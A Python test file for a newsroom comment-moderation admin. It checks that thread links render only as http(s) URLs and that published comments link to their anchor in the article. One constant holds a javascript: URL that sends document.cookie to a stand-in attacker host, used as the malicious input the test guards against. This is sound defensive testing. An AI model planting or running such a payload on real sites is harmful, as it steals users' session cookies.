"""The workspace links a comment's page only by an http(s) URL. A thread's link kept by
an import before imports checked it (``javascript:…``) was made into a link on the queue
and on the comment's page: the CSP stopped it running, but it must not be there."""

from __future__ import annotations

from sqlalchemy import select, update

from rostra.store.tables import comments, threads
from tests.admin.conftest import Newsroom

SCRIPT = "javascript:fetch('//evil.example/'+document.cookie)"


def _set_link(room: Newsroom, comment_id: int, url: str) -> None:
    with room.server.services.db.write() as conn:
        thread_id = conn.scalar(select(comments.c.thread_id).where(comments.c.id == comment_id))
        conn.execute(update(threads).where(threads.c.id == thread_id)
                     .values(url=url, title="The story"))


def test_it_links_a_page_only_by_an_http_url(newsroom: Newsroom) -> None:
    room = newsroom
    scripted = room.held("On a page with a scripted link", thread="/story/scripted")
    plain = room.held("On a page with a link", thread="/story/plain")
    _set_link(room, scripted, SCRIPT)
    _set_link(room, plain, "https://news.example/story/plain")
    for path in (f"/admin/comments/{scripted}", "/admin/queue"):
        doc = room.moderator.page(path)
        hrefs = [str(h) for h in doc.xpath("//@href")]
        assert not [h for h in hrefs if "javascript" in h.lower()], path
        meta = doc.xpath(f'//article[@data-id="{scripted}"]//span[@class="meta"]'
                         if path == "/admin/queue" else '//span[@class="meta"]')
        assert "The story" in meta[0].text_content()  # the title stays, as text
    doc = room.moderator.page(f"/admin/comments/{plain}")
    assert doc.xpath('//span[@class="meta"]/a/@href') == ["https://news.example/story/plain"]


def test_it_links_a_published_comment_to_its_place_in_the_article(newsroom: Newsroom) -> None:
    """From the queue (flagged, recently approved) to the comment in its article, where
    the widget opens its thread and highlights it (#comment-ID), not the article's top,
    hundreds of comments above it. A held comment, which the article does not show, is
    linked to the article."""
    room = newsroom
    published = room.held("Published, then flagged by readers", thread="/story/linked")
    held = room.held("Still waiting", thread="/story/linked")
    _set_link(room, published, "https://news.example/story/linked#top")
    assert room.moderator.post(f"/admin/act?only={published}",
                               {"action": "approve"}).status_code == 303
    for path, params in [("/admin/queue", {"state": "all"}),
                         (f"/admin/comments/{published}", {})]:
        doc = room.moderator.page(path, **params)
        links = doc.xpath(f'//article[@data-id="{published}"]//span[@class="meta"]/a/@href'
                          if params else '//span[@class="meta"]/a/@href')
        assert links == [f"https://news.example/story/linked#comment-{published}"], path
    doc = room.moderator.page("/admin/queue", state="all")
    assert doc.xpath(f'//article[@data-id="{held}"]//span[@class="meta"]/a/@href') == [
        "https://news.example/story/linked#top"]
